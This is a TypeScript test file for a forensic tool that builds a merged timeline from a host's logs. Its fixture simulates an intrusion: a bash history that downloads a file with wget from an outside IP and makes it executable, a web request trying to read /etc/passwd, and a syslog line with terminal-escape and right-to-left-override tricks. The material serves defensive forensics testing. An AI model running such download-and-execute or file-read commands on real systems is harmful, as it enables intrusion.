import { appendFileSync, readdirSync, readFileSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { TimelineEntry, TimelineFilter } from '../../../source/core/timeline.ts';
import { Damaged } from '../../../source/tasks/timeline/block-file.ts';
import { openTimeline } from '../../../source/tasks/timeline/open-timeline.ts';
import { literalTimeline } from '../../support/literal-timeline.ts';
import { livedInLogs } from '../../support/lived-in-logs.ts';
import { allOf, timelineOf, toldOf } from '../../support/made-timeline.ts';
import { memoryHost, type Machine } from '../../support/memory-host.ts';
import { scratch } from '../../support/scratch.ts';

/** Two years, a zone two hours east, a log without years, one with its own, a packed one, one without times, and one nobody may read. */
const mixed: Machine = {
	'/etc/localtime': { content: Buffer.concat([Buffer.from('TZif2'), Buffer.alloc(15), counts(), local(), Buffer.from('TZif2'), Buffer.alloc(15), counts(), local(), Buffer.from('\nEET-2\n')]) },
	'/etc/timezone': 'Europe/Helsinki\n',
	'/etc/passwd': 'root:x:0:0::/root:/bin/bash\n',
	'/var/log/auth.log': { content: 'Dec 31 23:59:58 web1 sshd[7]: Accepted password for root from 203.0.113.9 port 4022 ssh2\nJan  1 00:00:01 web1 sshd[7]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)\n', modified: '2026-01-01T12:00:00Z' },
	'/var/log/auth.log.1.gz': { content: gzipSync('Dec 30 10:00:00 web1 sshd[5]: Failed password for root from 203.0.113.9 port 4021 ssh2\n'), modified: '2025-12-31T00:00:00Z' },
	'/var/log/syslog': '2025-12-31T21:59:59.500000+00:00 web1 kernel: [  5.0] device eth0 entered promiscuous mode\n2025-12-31T23:00:00+00:00 web1 evil\u{1b}[2J: \u{202e}gpj.exe\n',
	'/var/log/apache2/access.log': '203.0.113.9 - - [31/Dec/2025:23:59:59 +0200] "GET /index.php?x=/etc/passwd HTTP/1.1" 200 5 "-" "curl"\n',
	'/root/.bash_history': 'wget http://198.51.100.7/x\nchmod +x x\n',
	'/var/log/secret': { content: 'x', unreadable: true },
};

function counts(): Buffer {
	const six = Buffer.alloc(24);
	six.writeUInt32BE(1, 16);
	six.writeUInt32BE(4, 20);
	return six;
}

function local(): Buffer {
	const kind = Buffer.alloc(10);
	kind.writeInt32BE(7200, 0);
	kind.write('EET', 6);
	return kind;
}

const brief = ({ at, clock, source, words }: TimelineEntry): string => `${Number.isNaN(at) ? '-' : new Date(at / 1000).toISOString()} ${clock} ${source} ${words.slice(0, 24)}`;

describe('logs of all kinds merged', () => {
	test('across New Year, local time in UTC, what has no time last', async () => {
		const timeline = await timelineOf(memoryHost(mixed));
		expect((await allOf(timeline)).map(brief)).toEqual([
			'2025-12-30T08:00:00.000Z year-inferred /var/log/auth.log.1.gz sshd: Failed password fo',
			'2025-12-31T21:59:58.000Z year-inferred /var/log/auth.log sshd: Accepted password ',
			'2025-12-31T21:59:59.000Z absolute /var/log/apache2/access.log 200 GET /index.php?x=/et',
			'2025-12-31T21:59:59.500Z absolute /var/log/syslog kernel: [  5.0] device e',
			'2025-12-31T22:00:01.000Z year-inferred /var/log/auth.log sshd: pam_unix(sshd:sess',
			String.raw`2025-12-31T23:00:00.000Z absolute /var/log/syslog evil\u{1b}[2J: \u{202e}g`,
			'- none /root/.bash_history wget http://198.51.100.7',
			'- none /root/.bash_history chmod +x x',
		]);
		expect(timeline).toMatchObject({
			count: 8, timeless: 2, first: Date.UTC(2025, 11, 30, 8) * 1000, last: Date.UTC(2025, 11, 31, 23) * 1000,
			zone: { name: 'Europe/Helsinki' },
			problems: [{ source: '/var/log/secret', why: 'unreadable: EACCES' }],
			coverage: { counts: { files: 5, records: 8, entries: 8 }, skipped: [{ reason: 'unreadable', count: 1 }], span: { from: '2025-12-30T08:00:00.000Z', to: '2025-12-31T23:00:00.000Z' } },
		});
		expect(timeline.sources.map(({ source, count, clocks }) => [source, count, clocks])).toContainEqual(['/root/.bash_history', 2, { none: 2 }]);
	});

	test('the same tree gives the same bytes', async () => {
		const [one, other] = [await toldOf(memoryHost(mixed), scratch()), await toldOf(memoryHost(mixed), scratch())];
		expect(one).toEqual(other);
	});

	test('a log of more years than its first line lets think is read again', async () => {
		const line = (month: string, day: number): string => `${month} ${String(day).padStart(2)} 10:00:00 web1 sshd[1]: Server listening on port 22.\n`;
		const years = ['Mar', 'Sep', 'Mar', 'Sep', 'Mar', 'Sep'].map(month => line(month, 3)).join('');
		const timeline = await timelineOf(memoryHost({ '/var/log/auth.log': { content: years, modified: '2025-10-01T00:00:00Z' } }));
		expect((await allOf(timeline)).map(({ at }) => new Date(at / 1000).toISOString().slice(0, 7))).toEqual(['2023-03', '2023-09', '2024-03', '2024-09', '2025-03', '2025-09']);
	});
});

describe('pages off the disk are those of entries in memory', () => {
	const words = ['failed', 'GET /', 'root', 'nothing of this', 'é'];
	const filters: fc.Arbitrary<TimelineFilter> = fc.record(
		{
			from: fc.integer({ min: Date.UTC(2024, 0, 1), max: Date.UTC(2024, 1, 1) }).map(ms => ms * 1000),
			until: fc.integer({ min: Date.UTC(2024, 0, 1), max: Date.UTC(2024, 1, 1) }).map(ms => ms * 1000),
			source: fc.constantFrom('auth', 'wtmp', '/var/log/none'),
			account: fc.constantFrom('root', 'anna', 'nobody'),
			host: fc.constantFrom('web1', '203.0.113.7', '198.51.100.7'),
			words: fc.constantFrom(...words),
			kinds: fc.constantFrom(['login'] as const, ['login-failed', 'request'] as const),
		},
		{ requiredKeys: [] },
	);

	test('whatever is asked for, from anywhere, either way', async () => {
		const timeline = await timelineOf(memoryHost(livedInLogs(mixed)));
		const entries = await allOf(timeline, {}, 5000);
		expect(entries.length).toBe(timeline.count);
		const literal = literalTimeline(entries);
		await fc.assert(
			fc.asyncProperty(filters, fc.nat(timeline.count), fc.constantFrom('later', 'earlier'), fc.integer({ min: 1, max: 40 }), async (filter, from, towards, limit) => {
				const [page, expected] = [await timeline.page(filter, from, towards, limit), await literal.page(filter, from, towards, limit)];
				expect(page.entries).toEqual(expected.entries);
			}),
			{ numRuns: 30 },
		);
		await fc.assert(
			fc.asyncProperty(fc.integer({ min: Date.UTC(2023, 11, 1), max: Date.UTC(2026, 1, 1) }).map(ms => ms * 1000), async time => {
				expect(await timeline.placeAt(time)).toBe(await literal.placeAt(time));
			}),
			{ numRuns: 15 },
		);
	});
});

describe('an index that is not what was written is refused', () => {
	const broken: readonly (readonly [string, (file: string) => void])[] = [
		['cut', file => truncateSync(file, readFileSync(file).length - 1)],
		['longer', file => appendFileSync(file, 'x')],
		['altered', file => writeFileSync(file, readFileSync(file).map((byte, at) => (at === 3 ? byte ^ 1 : byte)))],
	];
	test.for(broken.flatMap(([how, harm]) => ['entries', 'entries.blocks', 'timeline.json'].map(name => [how, name, harm] as const)))('%s: %s', async ([, name, harm]) => {
		const folder = scratch();
		const event = await toldOf(memoryHost(mixed), folder);
		if (event.type !== 'timeline-made') throw new Error(event.type);
		harm(join(folder, event.made.folder, name));
		await expect(openTimeline(join(folder, event.made.folder), event.made)).rejects.toThrow(Damaged);
	});

	test('gone', async () => {
		await expect(openTimeline(join(scratch(), 'none'), { files: [{ name: 'entries', bytes: 0, sha256: '' }] })).rejects.toThrow('its files are gone');
	});
});

test('a log that changes while it is read is said, what was read of it stays', async () => {
	const host = memoryHost({ '/var/log/syslog': { content: '2025-12-31T21:59:59+00:00 web1 kernel: one\n', size: 900 } });
	const timeline = await timelineOf(host);
	expect([timeline.count, timeline.problems.map(({ why }) => why.split(':')[0])]).toEqual([1, ['the rest of it could not be read']]);
});

test('where it cannot be kept nothing is left, and it is said', async () => {
	const folder = scratch();
	writeFileSync(join(folder, 'timeline'), 'a file in its place');
	const event = await toldOf(memoryHost(mixed), folder);
	expect(event).toMatchObject({ type: 'timeline-not-made', how: 'failed', why: expect.stringContaining('cannot be written') as unknown });
});

test('a reader that fails costs its log, not the others', async () => {
	const folder = scratch();
	const host = memoryHost({ '/var/log/a': '1 one\n2 two\n#\n', '/var/log/b': '5 five\n' });
	const { secondsLog } = await import('../../support/tiny-logs.ts');
	const event = await toldOf(host, folder, [secondsLog]);
	if (event.type !== 'timeline-made') throw new Error(JSON.stringify(event));
	const timeline = await openTimeline(join(folder, event.made.folder), event.made);
	expect((await allOf(timeline)).map(({ words }) => words)).toEqual(['five']);
	expect(timeline.problems).toEqual([{ source: '/var/log/a', why: 'unsupported: its reader failed: a reader that throws' }]);
	await timeline.close();
	expect(readdirSync(join(folder, event.made.folder)).toSorted()).toEqual(['entries', 'entries.blocks', 'timeline.json']);
});

test('a host without logs has an empty timeline', async () => {
	const timeline = await timelineOf(memoryHost({ '/etc/passwd': '' }));
	expect(await timeline.page({}, 0, 'later', 5)).toEqual({ entries: [], next: 0, end: true });
	expect([timeline.count, await timeline.placeAt(0), await timeline.page({ words: 'x' }, 9, 'earlier', 5)]).toEqual([0, 0, { entries: [], next: 0, end: true }]);
});
